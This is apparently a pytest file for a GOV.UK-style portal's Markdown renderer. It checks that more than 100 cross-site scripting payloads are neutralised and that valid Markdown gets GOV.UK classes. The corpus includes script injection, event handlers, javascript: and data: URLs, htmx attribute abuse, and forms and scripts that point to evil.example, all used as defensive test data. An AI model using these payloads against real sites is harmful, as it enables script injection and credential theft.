"""The one Markdown renderer: no XSS payload survives; good Markdown gets GOV.UK classes."""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from markupsafe import Markup

from portal.content.rendering import (
    ALLOWED_TAGS,
    GOVUK_CLASSES,
    is_own_origin_path,
    render_markdown,
    render_markdown_block,
    sanitise_html,
)

# ---------------------------------------------------------------------------------------------
# The corpus. Raw HTML payloads are pushed through the whole renderer (where Markdown escapes
# them) and through the sanitiser alone (the real boundary). Markdown payloads use Markdown's
# own link, image and autolink syntax, so they reach the sanitiser as real tags.

HTML_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src='data:text/javascript,alert(1)'></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    '<<script>alert("x");//<</script>',
    "<script\n>alert(1)</script\n>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=/ok.png onerror='alert(1)'>",
    "<IMG SRC=/ok.png OnErRoR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    "<a href=/ok onfocus=alert(1) autofocus>x</a>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>slash</p>",
    "<h2 onmouseenter=alert(1)>heading</h2>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    # dangerous URLs in links
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='jar:http://evil.example/x!/'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='tel:+441234'>x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a href=/ok ping=//evil.example>x</a>",
    # dangerous URLs in images
    "<img src=javascript:alert(1)>",
    "<img src='jav&#x0A;ascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='https://evil.example/track.png'>",
    "<img src='//evil.example/track.png'>",
    "<img src='/\\evil.example/track.png'>",
    "<img src='/\t/evil.example/track.png'>",
    "<img srcset='https://evil.example/x.png 1x' src=/ok.png>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<image src=javascript:alert(1)>",
    # svg, math and embedding
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<frameset><frame src=javascript:alert(1)>",
    "<portal src=//evil.example>",
    # style
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<p style='behavior: url(x.htc)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>cover</p>",
    # htmx attributes
    "<div hx-get='/cases/1/delete' hx-trigger='load'>x</div>",
    "<button hx-post='/logout' hx-trigger='load'>x</button>",
    "<p hx-on:click='alert(1)'>x</p>",
    "<p hx-on::load='alert(1)'>x</p>",
    "<p hx-on-click='alert(1)'>x</p>",
    "<a href=/ok hx-get=/admin hx-target=body hx-swap=outerHTML>x</a>",
    "<div data-hx-get='/x' data-hx-trigger='load'>x</div>",
    "<div data-hx-on:click='alert(1)'>x</div>",
    "<div hx-vals='js:{a: alert(1)}' hx-post=/x>x</div>",
    '<div hx-headers=\'{"X": "y"}\' hx-put=/x>x</div>',
    "<div hx-boost=true><a href=/x>x</a></div>",
    "<div hx-ext=debug hx-delete=/x>x</div>",
    "<p hx-trigger='every 1s' hx-get=/x>x</p>",
    "<div hx-disable='false' hx-get=/x>x</div>",
    "<img src=/ok.png hx-get=/x hx-trigger=load>",
    "<div data-x='1' data-role='x'>x</div>",
    # forms and page takeover
    "<form action=//evil.example method=post><input name=password></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<template><script>alert(1)</script></template>",
    "<dialog open>fake login</dialog>",
    # class and id abuse
    "<p class='govuk-visually-hidden'>hidden</p>",
    "<div id=main-content>clobber</div>",
    "<a href=/x class='govuk-button govuk-button--warning'>x</a>",
    "<img name=getElementById src=/ok.png>",
    # nested and malformed tags, comments
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)//",
    "<div><p><a href='javascript:alert(1)'><strong>x</strong></a></p></div>",
    '<a href="/ok" title="x" onclick="alert(1)" title="y">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href=/ok\x00onclick=alert(1)>x</a>",
    '<p>"><script>alert(1)</script></p>',
    "</div><div hx-get=/x hx-trigger=load>escape the container</div>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing><img src=x onerror=alert(1)></listing>",
    # template injection (must come out as plain text)
    "{{ config }}",
    "{{ 7 * 7 }}",
    "{% for x in range(10) %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
]

MARKDOWN_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](<javascript:alert(1)>)",
    '[click](javascript:alert(1) "title")',
    '[click](https://ok.example/" onclick="alert(1))',
    "[a](/ok){: onclick=alert(1) }",
    "# Heading {: hx-get=/x }",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    '![x" onerror="alert(1)](/ok.png)',
    '![x](/ok.png "t" onerror=alert(1))',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    '[ref][evil]\n\n[evil]: vbscript:msgbox(1) "title"',
    "![img][evil]\n\n[evil]: https://evil.example/x.png",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    '<http://ok.example/" onmouseover="alert(1)>',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "**bold <img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "- <a href=javascript:alert(1)>item</a>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <svg onload=alert(1)> |",
    "Text &lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](http://ok.example/?q=<script>alert(1)</script>)",
]

ALL_PAYLOADS = HTML_PAYLOADS + MARKDOWN_PAYLOADS

ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title"},
    "ol": {"start", "class"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}


def _scheme(url: str) -> str | None:
    """The URL scheme as a browser reads it (WHATWG URL), or None for a relative URL.

    Browsers drop tabs and newlines anywhere, and control characters and spaces at either end.
    """
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("\x00- ")
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else None


def assert_safe(html: str) -> None:
    """Fail if the HTML holds any tag, attribute or URL that could run script or act for a user."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED_TAGS | {"div"}, f"tag <{tag.name}> survived in {html!r}"
        if tag.name == "div":  # only the renderer's own wrapper
            assert tag.attrs == {"class": ["portal-prose"], "hx-disable": ""}, html
            continue
        for name, value in tag.attrs.items():
            lowered = name.lower()
            assert not lowered.startswith("on"), f"event handler {name} survived in {html!r}"
            assert not lowered.startswith(("hx-", "data-")), f"{name} survived in {html!r}"
            assert lowered != "style", f"style survived in {html!r}"
            if lowered == "class":
                assert " ".join(value) == GOVUK_CLASSES[tag.name], f"user class in {html!r}"
                continue
            if lowered == "rel":
                assert value == ["noopener", "noreferrer"], html
                continue
            allowed = ALLOWED_ATTRIBUTES.get(tag.name, set())
            assert lowered in allowed, f"attribute {name} on <{tag.name}> survived in {html!r}"
        if tag.name == "a" and tag.has_attr("href"):
            scheme = _scheme(tag["href"])
            assert scheme is None or scheme in SAFE_SCHEMES, f"href {tag['href']!r} in {html!r}"
        if tag.name == "img" and tag.has_attr("src"):  # an <img> with no src loads nothing
            assert is_own_origin_path(tag["src"]), f"image {tag['src']!r} in {html!r}"
    assert len(soup.find_all("div")) <= 1, f"a second container escaped in {html!r}"


@pytest.mark.parametrize(
    "unsafe",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        "<p onclick=alert(1)>x</p>",
        '<p hx-get="/x">x</p>',
        '<p data-hx-get="/x">x</p>',
        '<p style="color:red">x</p>',
        '<p class="evil">x</p>',
        "<script>alert(1)</script>",
        '<img src="https://evil.example/x.png">',
        '<div class="portal-prose" hx-disable></div><div>second</div>',
    ],
)
def test_safety_check_itself_catches_unsafe_html(unsafe):
    """The corpus assertion would fail on real XSS, so its passes mean something."""
    with pytest.raises(AssertionError):
        assert_safe(unsafe)


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_renderer_stops_xss_payload(payload):
    """No payload in the corpus survives the full Markdown renderer."""
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_rendered_block_stays_one_hx_disable_container(payload):
    """The hx-disable wrapper cannot be closed or duplicated by the content inside it."""
    block = render_markdown_block(payload)
    assert_safe(block)
    soup = BeautifulSoup(block, "html.parser")
    outer = soup.find("div")
    assert outer is not None and outer.has_attr("hx-disable")
    assert [child for child in soup.children if getattr(child, "name", None)] == [outer]


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_sanitiser_alone_stops_raw_html_payload(payload):
    """The nh3 layer is safe on its own, even if raw HTML ever reached it unescaped."""
    assert_safe(sanitise_html(payload))


def test_corpus_has_at_least_100_payloads():
    """The issue asks for a corpus of at least 100 XSS payloads, including htmx ones."""
    assert len(ALL_PAYLOADS) >= 100
    assert sum("hx-" in payload for payload in ALL_PAYLOADS) >= 15


def test_raw_html_is_shown_as_text_not_markup():
    """HTML typed into content appears as visible text, so writers see it was not used."""
    soup = BeautifulSoup(render_markdown("<b>bold</b> and <script>x()</script>"), "html.parser")
    assert soup.find("b") is None
    assert soup.get_text() == "<b>bold</b> and <script>x()</script>"


def test_template_syntax_comes_out_literally():
    """Jinja-like text is plain text in the output and is never evaluated."""
    out = render_markdown("{{ 7 * 7 }} and {% if x %}y{% endif %}")
    assert "{{ 7 * 7 }}" in out
    assert "{% if x %}" in out
    assert "49" not in out


def test_unsafe_link_keeps_its_words_but_is_not_a_link():
    """A javascript: link becomes plain words, not a styled link that goes nowhere."""
    soup = BeautifulSoup(render_markdown("Go [here](javascript:alert(1)) now."), "html.parser")
    assert soup.find("a") is None
    assert soup.get_text() == "Go here now."


def test_off_site_image_is_replaced_by_its_alt_text():
    """Images from other sites could track readers, so only their alt text is shown."""
    soup = BeautifulSoup(
        render_markdown("See ![a chart](https://evil.example/x.png)."), "html.parser"
    )
    assert soup.find("img") is None
    assert soup.get_text() == "See a chart."


def test_user_class_is_replaced_by_govuk_class():
    """A writer cannot choose classes (for example to hide text); ours replace theirs."""
    out = sanitise_html('<p class="govuk-visually-hidden">x</p><a href="/a" class="evil">y</a>')
    soup = BeautifulSoup(out, "html.parser")
    assert soup.p["class"] == ["govuk-body"]
    assert soup.a["class"] == ["govuk-link"]


# ---------------------------------------------------------------------------------------------
# Good Markdown renders with GOV.UK Frontend classes


def _render(text: str) -> BeautifulSoup:
    return BeautifulSoup(render_markdown(text), "html.parser")


def test_returns_markup_so_templates_do_not_escape_it_again():
    """The output is Markup, ready for a template without `|safe`."""
    assert isinstance(render_markdown("Hello"), Markup)
    assert isinstance(render_markdown_block("Hello"), Markup)


def test_h1_in_content_is_demoted_to_h2():
    """The page supplies the only h1, so a `#` heading in content becomes an h2."""
    soup = _render("# Big\n\nText")
    assert soup.find("h1") is None
    assert soup.h2.get_text() == "Big"
    assert soup.h2["class"] == ["govuk-heading-m"]


def test_heading_levels_get_govuk_classes():
    """h2 is medium, h3 and h4 small; h5 and h6 are capped at h4."""
    soup = _render("## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six")
    assert soup.h2["class"] == ["govuk-heading-m"]
    assert soup.h3["class"] == ["govuk-heading-s"]
    assert [h.get_text() for h in soup.find_all("h4")] == ["Four", "Five", "Six"]
    assert all(h["class"] == ["govuk-heading-s"] for h in soup.find_all("h4"))
    assert soup.find(["h5", "h6"]) is None


def test_paragraphs_and_emphasis():
    """Paragraphs get govuk-body; bold and italic survive."""
    soup = _render("Some **bold** and *italic* text.")
    assert soup.p["class"] == ["govuk-body"]
    assert soup.strong.get_text() == "bold"
    assert soup.em.get_text() == "italic"


def test_bullet_and_numbered_lists():
    """Lists get the GOV.UK list classes."""
    soup = _render("- one\n- two\n\n1. first\n2. second")
    assert soup.ul["class"] == ["govuk-list", "govuk-list--bullet"]
    assert soup.ol["class"] == ["govuk-list", "govuk-list--number"]
    assert [li.get_text() for li in soup.find_all("li")] == ["one", "two", "first", "second"]


def test_numbered_list_can_start_later():
    """A list that starts at 3 keeps its start number."""
    assert _render("3. third\n4. fourth").ol["start"] == "3"


@pytest.mark.parametrize(
    "href", ["https://www.gov.uk/", "http://example.org/a?b=c", "mailto:help@example.org", "/help"]
)
def test_allowed_links_keep_their_target(href):
    """http, https, mailto and relative links work, with govuk-link and a safe rel."""
    link = _render(f"[text]({href})").a
    assert link["href"] == href
    assert link["class"] == ["govuk-link"]
    assert link["rel"] == ["noopener", "noreferrer"]


def test_autolinks_become_links():
    """<https://…> and <name@example.org> become links."""
    links = _render("<https://example.org> <help@example.org>").find_all("a")
    assert [a["href"] for a in links] == ["https://example.org", "mailto:help@example.org"]


def test_tables_get_govuk_table_classes():
    """Markdown tables use GOV.UK table classes on every part."""
    soup = _render("| Step | When |\n|---|---|\n| Decide | 6 weeks |")
    assert soup.table["class"] == ["govuk-table"]
    assert soup.thead["class"] == ["govuk-table__head"]
    assert soup.tbody["class"] == ["govuk-table__body"]
    assert {tuple(tr["class"]) for tr in soup.find_all("tr")} == {("govuk-table__row",)}
    assert soup.th["class"] == ["govuk-table__header"]
    assert soup.td["class"] == ["govuk-table__cell"]
    assert soup.td.get_text() == "Decide"


def test_own_site_image_is_replaced_by_its_alt_text():
    """Even an image from our own site becomes its alt text: a browser fetches an image by itself,
    with the reader's cookies, so an image is a request made in the reader's name."""
    soup = _render("![The steps](/static/images/steps.png)")
    assert soup.find("img") is None
    assert soup.get_text() == "The steps"


def test_quote_rule_and_code():
    """Block quotes become inset text; rules and code survive."""
    soup = _render("> Note this\n\n---\n\nUse `code` here.")
    assert soup.blockquote["class"] == ["govuk-inset-text"]
    assert "govuk-section-break" in soup.hr["class"]
    assert soup.code.get_text() == "code"


def test_block_wraps_content_in_hx_disable_container():
    """render_markdown_block puts the prose inside <div class="portal-prose" hx-disable>."""
    block = str(render_markdown_block("Hello"))
    assert block.startswith('<div class="portal-prose" hx-disable>')
    assert block.endswith("</div>")
    assert '<p class="govuk-body">Hello</p>' in block


@pytest.mark.parametrize(
    ("url", "own"),
    [
        ("/static/x.png", True),
        ("/", True),
        ("//evil.example/x.png", False),
        ("/\\evil.example/x.png", False),
        ("/\t/evil.example", False),
        ("https://example.org/x.png", False),
        ("static/x.png", False),
        ("", False),
    ],
)
def test_own_origin_path(url, own):
    """Only a single-slash path with no tricks counts as our own site."""
    assert is_own_origin_path(url) is own
